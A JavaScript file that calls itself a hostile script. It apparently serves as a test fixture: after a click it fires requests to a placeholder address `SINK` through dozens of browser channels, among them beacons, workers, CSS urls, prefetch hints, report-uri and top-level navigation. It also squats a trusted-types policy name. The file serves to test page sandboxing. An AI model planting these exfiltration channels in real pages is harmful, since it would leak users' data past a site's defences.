// Hostile script: after a person's click, tries every way by which a page can make a request, each to its own path of
// the address in `SINK`. Each channel may fail as it likes. Ways to leave the page are tried only where `window.only` names them,
// since the first that works ends this script.
(() => {
  const to = (name) => `${SINK}/${name}`;
  let trusted = { createScriptURL: (text) => text, createScript: (text) => text, createHTML: (text) => text };
  try {
    // The one name that the page's policy knows, before the program takes it.
    trusted = trustedTypes.createPolicy("steelyard", trusted);
  } catch {
    // Without trusted types, or with the name taken, plain strings are tried.
  }
  const add = (tag, attributes, parent = document.body) => {
    const element = document.createElement(tag);
    for (const [name, value] of Object.entries(attributes)) element.setAttribute(name, value);
    parent.append(element);
    return element;
  };
  const worker = (source) => new Worker(trusted.createScriptURL(URL.createObjectURL(new Blob([source], { type: "text/javascript" }))));

  const quiet = {
    fetch: () => fetch(to("fetch"), { mode: "no-cors" }),
    "fetch-keepalive": () => fetch(to("fetch-keepalive"), { mode: "no-cors", keepalive: true, method: "POST", body: "x" }),
    xhr: () => {
      const request = new XMLHttpRequest();
      request.open("GET", to("xhr"));
      request.send();
    },
    image: () => { new Image().src = to("image"); },
    srcset: () => add("img", { srcset: `${to("srcset")} 1x` }),
    beacon: () => navigator.sendBeacon(to("beacon"), "x"),
    websocket: () => new WebSocket(to("websocket").replace("http:", "ws:")),
    eventsource: () => new EventSource(to("eventsource")),
    script: () => { document.createElement("script").src = trusted.createScriptURL(to("script")); },
    "script-element": () => {
      const script = document.createElement("script");
      script.src = trusted.createScriptURL(to("script-element"));
      document.head.append(script);
    },
    import: () => import(to("import")),
    stylesheet: () => add("link", { rel: "stylesheet", href: to("stylesheet") }, document.head),
    "style-import": () => { add("style", {}, document.head).textContent = `@import url(${to("style-import")});`; },
    "css-url": () => { add("p", {}).style.backgroundImage = `url(${to("css-url")})`; },
    "css-cursor": () => { document.body.style.cursor = `url(${to("css-cursor")}), auto`; },
    "adopted-sheet": () => {
      const sheet = new CSSStyleSheet();
      sheet.replaceSync(`body { list-style-image: url(${to("adopted-sheet")}); border-image: url(${to("adopted-sheet")}) 1; }`);
      document.adoptedStyleSheets = [...document.adoptedStyleSheets, sheet];
    },
    font: () => new FontFace("stolen", `url(${to("font")})`).load(),
    prefetch: () => add("link", { rel: "prefetch", href: to("prefetch") }, document.head),
    preload: () => add("link", { rel: "preload", as: "image", href: to("preload") }, document.head),
    modulepreload: () => add("link", { rel: "modulepreload", href: to("modulepreload") }, document.head),
    preconnect: () => add("link", { rel: "preconnect", href: to("preconnect") }, document.head),
    "dns-prefetch": () => add("link", { rel: "dns-prefetch", href: to("dns-prefetch") }, document.head),
    icon: () => add("link", { rel: "icon", href: to("icon") }, document.head),
    manifest: () => add("link", { rel: "manifest", href: to("manifest") }, document.head),
    "speculation-rules": () => {
      add("script", { type: "speculationrules" }, document.head).textContent = JSON.stringify({ prefetch: [{ urls: [to("speculation-rules")] }] });
    },
    frame: () => add("iframe", { src: to("frame") }),
    "frame-script": () => { add("iframe", {}).src = `javascript:fetch("${to("frame-script")}")`; },
    "frame-srcdoc": () => { add("iframe", {}).srcdoc = trusted.createHTML(`<img src="${to("frame-srcdoc")}">`); },
    object: () => add("object", { data: to("object") }),
    embed: () => add("embed", { src: to("embed") }),
    video: () => add("video", { src: to("video"), preload: "auto" }),
    audio: () => add("audio", { src: to("audio"), preload: "auto" }),
    "input-image": () => add("input", { type: "image", src: to("input-image") }),
    "svg-image": () => {
      const svg = document.createElementNS("http://www.w3.org/2000/svg", "svg");
      const image = document.createElementNS("http://www.w3.org/2000/svg", "image");
      image.setAttribute("href", to("svg-image"));
      svg.append(image);
      document.body.append(svg);
    },
    html: () => { add("div", {}).innerHTML = trusted.createHTML(`<img src="${to("html")}">`); },
    "worker-fetch": () => worker(`fetch("${to("worker-fetch")}", { mode: "no-cors" })`),
    "worker-import": () => worker(`importScripts("${to("worker-import")}")`),
    "worker-xhr": () => worker(`const request = new XMLHttpRequest(); request.open("GET", "${to("worker-xhr")}"); request.send();`),
    "report-policy": () => add("meta", { "http-equiv": "Content-Security-Policy", content: `manifest-src 'self'; report-uri ${to("report-policy")}` }, document.head),
    popup: () => open(to("popup")),
    link: () => add("a", { href: to("link"), target: "_blank" }).click(),
    "form-blank": () => add("form", { action: to("form-blank"), method: "post", target: "_blank" }).submit(),
    "execute-base": () => { add("base", { href: `${SINK}/base/` }, document.head); new Image().src = "relative"; },
  };
  const leaving = {
    parent: () => { parent.location = to("parent"); },
    top: () => { top.location = to("top"); },
    "open-top": () => open(to("open-top"), "_top"),
    "open-parent": () => open(to("open-parent"), "_parent"),
    "link-top": () => add("a", { href: to("link-top"), target: "_top" }).click(),
    "form-top": () => add("form", { action: to("form-top"), target: "_top" }).submit(),
    "link-ping": () => add("a", { href: "#here", ping: to("link-ping") }).click(),
    "link-download": () => add("a", { href: to("link-download"), download: "x" }).click(),
    "link-self": () => add("a", { href: to("link-self") }).click(),
    "form-self": () => add("form", { action: to("form-self") }).submit(),
    "meta-refresh": () => add("meta", { "http-equiv": "refresh", content: `0; url=${to("meta-refresh")}` }, document.head),
    "open-self": () => open(to("open-self"), "_self"),
    "self-replace": () => location.replace(to("self-replace")),
    self: () => { location = to("self"); },
  };

  const attempt = async (channel) => {
    try {
      await channel();
    } catch {
      // Refused: as it should be.
    }
  };
  const pause = (milliseconds) => new Promise((resolve) => { setTimeout(resolve, milliseconds); });
  document.addEventListener("click", async () => {
    const only = window.only;
    const all = { ...quiet, ...leaving };
    const chosen = only ? only.map((name) => all[name]) : Object.values(quiet);
    // None waits for another: one that never answers must not keep the rest from being tried.
    for (const channel of chosen) attempt(channel);
    await pause(500);
    document.title = "tried";
  }, { once: true, capture: true });
})();
